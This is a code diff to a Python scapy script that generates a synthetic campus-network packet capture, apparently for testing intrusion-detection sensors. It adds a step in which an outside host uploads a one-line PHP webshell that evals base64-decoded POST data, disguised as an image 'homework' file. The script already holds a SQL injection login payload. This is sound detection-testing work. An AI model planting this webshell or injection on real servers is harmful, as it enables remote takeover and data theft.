@@ -8,6 +8,8 @@ Scenario on 2026-11-02 from 01:00:00Z (09:00 Beijing), campus 10.20.0.0/16:
   +120 s 10.20.1.50 browses http://10.20.1.80/: 3 complete HTTP/1.1 GETs (SF)
   +140 s 10.20.3.66 posts the login form of http://10.20.1.80/ with a SQL injection in the body
          (username=admin' or '1'='1'-- ): only the request body shows it (OWASP CRS catches it)
+  +150 s 198.51.100.23 uploads a PHP webshell (eval of base64_decode($_POST[..]), written for this sample)
+         to http://10.20.1.80/upload.php as a multipart "homework" form, declared image/jpeg
 
 Run: python -m sensors.samples.make_sample_pcap [OUT]
 """
@@ -25,6 +27,8 @@ from scapy.layers.l2 import Ether
 from scapy.packet import Packet
 from scapy.utils import wrpcap
 
+from sensors.samples.http_craft import http_request, http_response, multipart_form, tcp_exchange
+
 BASE = datetime(2026, 11, 2, 1, 0, 0, tzinfo=timezone.utc).timestamp()
 SEED = 20261102
 OUT = Path(__file__).with_name("campus_sample.pcap")
@@ -41,6 +45,9 @@ A_RECORDS = {
 }
 NX_NAME = "wpad.campus.lan"
 PAGES = ("/", "/news/2026-11-01.html", "/static/css/site.css")
+UPLOADER = "198.51.100.23"
+# A one-line PHP webshell written for this sample (not taken from any collection).
+WEBSHELL = b"<?php /* homework */ @eval(base64_decode($_POST['k'])); ?>\n"
 _MAC = {}
 
 
@@ -134,6 +141,15 @@ def http_get(rng: random.Random, start: float, path: str, request: bytes | None 
     ]
 
 
+def webshell_upload(rng: random.Random, start: float) -> list[Packet]:
+    content_type, body = multipart_form({"course": "信息技术", "student": "2026031"},
+                                        [("homework", "homework.php", "image/jpeg", WEBSHELL)])
+    request = http_request("POST", "/upload.php", "www.school-no1.edu.cn", body, content_type=content_type)
+    response = http_response(200, "<html><body>上传成功</body></html>".encode())
+    return tcp_exchange(start, UPLOADER, WEB, rng.randint(40_000, 60_000), request, response,
+                        isn=(rng.getrandbits(31), rng.getrandbits(31)))
+
+
 def build() -> list[Packet]:
     rng = random.Random(SEED)
     frames = syn_scan(rng, BASE)
@@ -141,6 +157,7 @@ def build() -> list[Packet]:
     for i, path in enumerate(PAGES):
         frames += http_get(rng, BASE + 120 + i * 5, path)
     frames += http_get(rng, BASE + 140, "/login.php", sqli_login_post(), client=SCANNER)
+    frames += webshell_upload(rng, BASE + 150)
     frames.sort(key=lambda p: float(p.time))
     return frames
 
